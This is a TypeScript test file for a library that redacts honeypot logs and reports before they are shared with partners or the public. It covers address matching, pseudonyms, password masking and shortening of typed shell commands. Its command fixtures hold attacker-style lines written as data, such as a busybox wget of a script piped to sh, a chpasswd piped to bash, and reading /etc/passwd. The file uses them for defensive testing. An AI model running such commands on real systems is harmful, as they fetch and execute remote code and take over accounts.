import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, test } from 'node:test'
import { DETECTORS, makeRedactor } from '../../src/neutralize/pii/index.ts'
import { toVisible } from '../../src/neutralize/visible.ts'
import { isNetwork, Networks, PRIVATE_NETWORKS } from '../../src/redact/addresses.ts'
import { shortenCommand } from '../../src/redact/command.ts'
import { LEVELS, type Level, type TextKind, TREATMENTS } from '../../src/redact/levels.ts'
import { Redactor } from '../../src/redact/redactor.ts'
import { redactPayload } from '../../src/redact/session.ts'
import { REPORT_KINDS, redactTree } from '../../src/redact/tree.ts'
import { fc } from '../support/property.ts'

const pii = await makeRedactor({ detectors: Object.keys(DETECTORS), plugins: [] })

function redactor(level: Level, key = 1): Redactor {
  return new Redactor({
    level,
    key: new Uint8Array(32).fill(key),
    ownAddresses: ['203.0.113.0/28', '2001:db8:1::/48'],
    ownNames: ['corp.example', 'ACME'],
    sensors: ['bond-street', 'bond-street-7', 't1', 'unknown'],
    pii: (text) => pii?.redactText(text) ?? text,
  })
}

function shown(level: Level, kind: TextKind, text: string): string {
  return redactor(level).text(kind, toVisible(text))
}

describe('addresses', () => {
  const own = new Networks(['203.0.113.0/28', '10.0.0.0/8', '2001:db8:1::/48'])
  test('own ones are found wherever they stand', () => {
    for (const text of [
      '203.0.113.7',
      'http://203.0.113.7:8080/x',
      'x203.0.113.7y',
      '203.0.113.007',
      '::ffff:10.1.2.3',
      '[2001:db8:1::7]:22',
      'ping 2001:DB8:1:0:0:0:0:7',
      'addr:2001:db8:1::7',
      '1.203.0.113.7',
      // Defanged by whoever wrote it.
      '203[.]0[.]113[.]7',
      'hxxp://203.0.113[.]7/',
      '2001:db8:1[:]:7',
      '::ffff:10.1.2[.]3',
      // What stands beside them looks like a part of them.
      'SHA256:2001:db8:1::7',
      'bad:2001:db8:1:0:0:0:0:7',
      '2001:db8:1::7:22',
      'SHA256:2001:0db8:0001:0000:0000:0000:0000:0007',
    ])
      assert.match(own.replaceIn(text, '[own]'), /\[own\]/, text)
  })

  test('others stay as they are', () => {
    for (const text of [
      '203.0.113.16',
      '11.0.0.1',
      '2001:db8:2::7',
      '1.2.3',
      '10:00:01',
      'a::b',
      '203[.]0[.]113[.]16',
      '2001:db8:2[:]:7',
    ])
      assert.equal(own.replaceIn(text, '[own]'), text)
  })

  test('an address of an attacker does not become an own one by how it ends', () => {
    const withPrivate = new Networks([...PRIVATE_NETWORKS, '2001:db8:1::/48'])
    for (const text of ['2001:db8:2::1', '2001:db8:2:fd00::1', 'SHA256:ab:cd:ef', 'a:b:c:d:e:f'])
      assert.equal(withPrivate.replaceIn(text, '[own]'), text)
    assert.equal(withPrivate.replaceIn('at 1:2:3:4:5:6:7:8:9:fd00::1', '[own]'), 'at [own]')
  })

  test('a network is an address with a length that its family has', () => {
    for (const good of ['192.0.2.0/24', '192.0.2.7', '2001:db8::/32', '::1'])
      assert.ok(isNetwork(good))
    for (const bad of ['', '192.0.2.0/33', '192.0.2', 'lyon', '::/129', '192.0.2.0/24/8'])
      assert.ok(!isNetwork(bad), bad)
  })
})

describe('kinds of text', () => {
  test('internal changes nothing', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...(Object.keys(TREATMENTS) as TextKind[])),
        fc.string({ unit: 'binary' }),
        (kind, text) => {
          assert.equal(redactor('internal').text(kind, toVisible(text)), toVisible(text))
        },
      ),
    )
  })

  test('a sensor has a pseudonym: the same each time, another at another level and with another key', () => {
    const name = shown('partner', 'sensor', 'bond-street-7')
    assert.match(name, /^sensor-[0-9a-f]{8}$/)
    assert.equal(shown('partner', 'sensor', 'bond-street-7'), name)
    assert.notEqual(shown('public', 'sensor', 'bond-street-7'), name)
    assert.notEqual(redactor('partner', 2).text('sensor', toVisible('bond-street-7')), name)
  })

  test('within texts, own addresses, own names, sensors and personal data are replaced', () => {
    const text = 'curl http://203.0.113.7/ -d acme@bond-street-7.corp.example jane@mail.example t1'
    const kept = shown('partner', 'command', text)
    assert.doesNotMatch(kept, /203\.0\.113\.7|acme|bond-street|corp\.example|jane/i)
    assert.match(kept, /sensor-[0-9a-f]{8}/)
    assert.match(kept, / t1$/)
  })

  test('passwords that everybody tries are shown to everyone, others by a mark that tells them apart', () => {
    assert.equal(shown('public', 'password', '123456'), '123456')
    assert.equal(shown('public', 'credential', 'root / 123456'), 'root / 123456')
    assert.match(shown('public', 'password', 'Xk9-77'), /^\[password [0-9a-f]{8}\]$/)
    assert.notEqual(shown('public', 'password', 'Xk9-77'), shown('public', 'password', 'Xk9-78'))
    assert.match(shown('public', 'credential', 'root / Xk9-77'), /^root \/ \[password /)
    assert.match(shown('public', 'credential', 'a / b / c'), /^\[credential [0-9a-f]{8}\]$/)
    assert.equal(shown('partner', 'password', 'Xk9-77'), 'Xk9-77')
  })

  test('a URL keeps its host and path alone', () => {
    assert.equal(
      shown('public', 'url', 'ftp://bob:pw@198.51.100.7:21/a/b.sh?k=pw#pw'),
      'ftp://198.51.100.7:21/a/b.sh',
    )
    assert.equal(shown('public', 'url', 'not a url'), '[withheld]')
  })

  test('what has not the form of its kind is withheld from everyone', () => {
    assert.equal(shown('public', 'hash', 'hunter2'), '[withheld]')
    assert.equal(shown('public', 'eventid', 'cowrie.login.failed'), 'cowrie.login.failed')
    assert.equal(shown('public', 'eventid', 'my password'), '[withheld]')
    assert.equal(shown('public', 'text', 'anything'), '[withheld]')
  })

  test('a text in visible form stays one', () => {
    for (const level of LEVELS)
      for (const kind of Object.keys(TREATMENTS) as TextKind[])
        fc.assert(
          fc.property(fc.string({ unit: 'binary', maxLength: 40 }), (text) => {
            const made = redactor(level).text(kind, toVisible(text))
            assert.doesNotMatch(made, /[\u0000-\u001f\u007f-\u009f\u202e]/)
          }),
          { numRuns: 40 },
        )
  })
})

describe('commands', () => {
  const cases: readonly (readonly [string, string])[] = [
    ['uname -a', 'uname -a'],
    ['echo "root:m7@w.1prs"|chpasswd|bash', 'echo * | chpasswd | bash'],
    ['mysql -pSecret -u root', '* -u *'],
    [
      '/bin/busybox wget http://198.51.100.7/a.sh -O - | sh',
      '/bin/busybox wget http://198.51.100.7/a.sh -O * | sh',
    ],
    ['hunter2', '*'],
    ['cd ~; chattr -ia .ssh; lockr -ia .ssh', 'cd * ; chattr -ia * ; lockr -ia *'],
    ['PASS=hunter2 sudo whoami', '* sudo whoami'],
    ['awk \'{print $4; "a|b"}\' x', 'awk *'],
    ['cat < /etc/passwd > wget', 'cat < * > *'],
    ['"unended quote ; hunter2', '*'],
    ['x\\ hunter2; w', '* ; w'],
    ['$(echo hunter2)', '$( echo * )'],
  ]
  for (const [typed, short] of cases)
    test(`"${typed}" becomes "${short}"`, () => {
      assert.equal(
        shortenCommand(typed, (url) => url),
        short,
      )
    })

  test('of any text nothing is left but programs, switches and operators', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const secret = 'Zq7xSECRETq7'
        for (const typed of [`${secret}${text}`, `${text} ${secret}`, `${text}"${secret}`])
          assert.doesNotMatch(
            shortenCommand(typed, () => '*'),
            new RegExp(secret),
          )
      }),
    )
  })
})

describe('payloads', () => {
  const payload = JSON.stringify({
    eventid: 'cowrie.session.connect',
    src_ip: '198.51.100.7',
    dst_ip: '198.18.0.1',
    message: 'New connection: 198.51.100.7 (198.18.0.1:2222)',
    sensor: 'bond-street-7',
    odd: { deep: ['203.0.113.7'] },
  })

  test('the address that was connected to is own, whatever it is; a destination of a tunnel is not', () => {
    const partner = JSON.parse(
      redactPayload(payload, 'cowrie.session.connect', redactor('partner')),
    )
    assert.equal(partner.dst_ip, '[own address]')
    assert.equal(partner.message, undefined)
    assert.deepEqual(partner.odd, { deep: ['[own address]'] })
    const tunnel = redactPayload(payload, 'cowrie.direct-tcpip.request', redactor('public'))
    assert.equal(JSON.parse(tunnel).dst_ip, '198.18.0.1')
    assert.equal(JSON.parse(tunnel).odd, undefined)
  })
})

describe('documents', () => {
  test('a text of which no table knows is withheld from everyone', () => {
    const report = {
      sensor: 'bond-street-7',
      novel: 'secret',
      top: { commands: [{ value: 'x y' }] },
    }
    const made = redactTree(report, REPORT_KINDS, redactor('public'))
    assert.match(made.sensor, /^sensor-/)
    assert.equal(made.novel, '[withheld]')
    assert.equal(made.top.commands[0]!.value, '*')
  })

  test('names that are told no longer apart count as one', () => {
    const made = redactTree(
      { events: { byEventid: { 'own one': 2, 'own two': 3, 'cowrie.log.open': 1 } } },
      REPORT_KINDS,
      redactor('public'),
    )
    assert.deepEqual(made.events.byEventid, { '[withheld]': 5, 'cowrie.log.open': 1 })
  })
})

test('the page shows the treatment of each kind', () => {
  const page = readFileSync(join(import.meta.dirname, '../../docs/redaction.md'), 'utf8')
  for (const [kind, levels] of Object.entries(TREATMENTS))
    assert.ok(
      page.includes(`| \`${kind}\` | ${levels.partner} | ${levels.public} |`),
      `| \`${kind}\` | ${levels.partner} | ${levels.public} |`,
    )
})
